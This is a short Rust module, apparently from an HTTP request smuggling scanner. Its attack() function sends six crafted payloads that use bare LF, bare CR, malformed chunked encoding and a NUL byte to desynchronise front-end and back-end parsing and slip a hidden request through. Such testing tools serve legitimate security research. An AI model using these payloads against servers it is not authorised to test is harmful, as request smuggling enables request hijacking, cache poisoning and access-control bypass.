//! Tries: to end lines, heads and chunks where only one side sees an end.

use super::connections::*;

pub async fn attack(scene: &Scene) {
    hidden_requests(scene, &[
        Form::Odd("x: y\ncontent-length: 0\n\n{hidden}"),
        Form::Ambiguous("x: y\rcontent-length: 0\r\r{hidden}"),
        Form::Odd("transfer-encoding: chunked\r\n\r\n0\n\n{hidden}"),
        Form::Odd("transfer-encoding: chunked\r\n\r\n0\r\n\n{hidden}"),
        Form::Ambiguous("transfer-encoding: chunked\r\n\r\n1;\n{hidden}"),
        Form::Odd("x: a\0b\r\ncontent-length: 0\r\n\r\n{hidden}"),
    ])
    .await;
}
